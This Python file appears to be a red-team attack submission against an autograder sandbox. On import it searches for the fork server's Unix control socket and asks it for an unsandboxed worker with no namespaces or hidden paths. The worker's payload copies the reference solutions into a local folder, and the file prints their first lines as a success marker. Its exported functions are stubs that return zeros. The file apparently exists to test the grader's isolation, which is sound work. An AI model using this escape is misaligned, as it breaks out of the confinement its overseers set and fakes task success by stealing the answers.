"""Attack: find the fork server's control socket (next to the worker's own directory, or anywhere near) and
ask it for a new worker with no hidden paths and no namespaces; that worker copies the reference solution
here. On success it prints the marker with the first line it stole."""
# base: starter
import json as _json
import os
import socket
import stat

import torch

_HERE = os.getcwd()
_STOLEN = os.path.join(_HERE, "stolen")
_STEAL = """
import os, shutil, sys
for base in [p for p in sys.path if p] + [os.getcwd(), "/autograder/source"]:
    for up in range(5):
        folder = os.path.abspath(os.path.join(base, *([".."] * up), "solutions", {assignment!r}))
        if os.path.isdir(folder):
            os.makedirs({dest!r}, exist_ok=True)
            for name in os.listdir(folder):
                shutil.copy(os.path.join(folder, name), os.path.join({dest!r}, name))
            raise SystemExit
"""


def _sockets():
    parent = os.path.dirname(_HERE)
    found = [os.path.join(parent, "zygote.sock")]
    for root in (parent, os.path.dirname(parent), "/tmp", "/run", "/dev/shm"):
        for base, dirs, files in os.walk(root):
            if base.count(os.sep) - root.count(os.sep) >= 2:
                dirs[:] = []
            for name in files + dirs:
                path = os.path.join(base, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode) and path not in found:
                        found.append(path)
                except OSError:
                    pass
    return found


def _escape():
    payload = os.path.join(_HERE, "payload")
    try:
        os.makedirs(payload, exist_ok=True)
        with open(os.path.join(payload, "steal.py"), "w") as handle:
            handle.write(_STEAL.format(assignment=ASSIGNMENT, dest=_STOLEN))
    except OSError:
        return
    request = {"submission": payload, "workdir": _HERE, "uid": None, "hidden": [], "namespaces": False,
               "cpu_seconds": 60, "memory_bytes": 1 << 36, "memory_mb": 1 << 16, "max_procs": 64,
               "max_file_bytes": 1 << 24, "max_disk_bytes": 1 << 34}
    for path in _sockets():
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            for count in (3, 4):
                try:
                    conn = socket.socket(socket.AF_UNIX, kind)
                    conn.settimeout(3)
                    conn.connect(path)
                    ours, theirs = socket.socketpair()
                    pipes = [os.pipe() for _ in range(count - 1)]
                    fds = [theirs.fileno()] + [w for _, w in pipes]
                    socket.send_fds(conn, [_json.dumps(request).encode()], fds)
                    from autograder import wire

                    ours.settimeout(20)
                    stream = ours.makefile("rwb")
                    wire.read_frame(stream)  # the escaped worker's hello
                    stream.write(wire.encode({"op": "import", "modules": ["steal"]}))
                    stream.flush()
                    wire.read_frame(stream)
                except Exception:
                    continue
                if os.path.isdir(_STOLEN):
                    return


_escape()
if os.path.isdir(_STOLEN):
    for _name in sorted(os.listdir(_STOLEN)):
        with open(os.path.join(_STOLEN, _name)) as _handle:
            print("LLMKIT-ATTACK-SUCCEEDED control channel:", _name, _handle.readline().strip(), flush=True)


def attack(*args, **kwargs):
    return torch.zeros(1)


def __getattr__(name):
    return attack
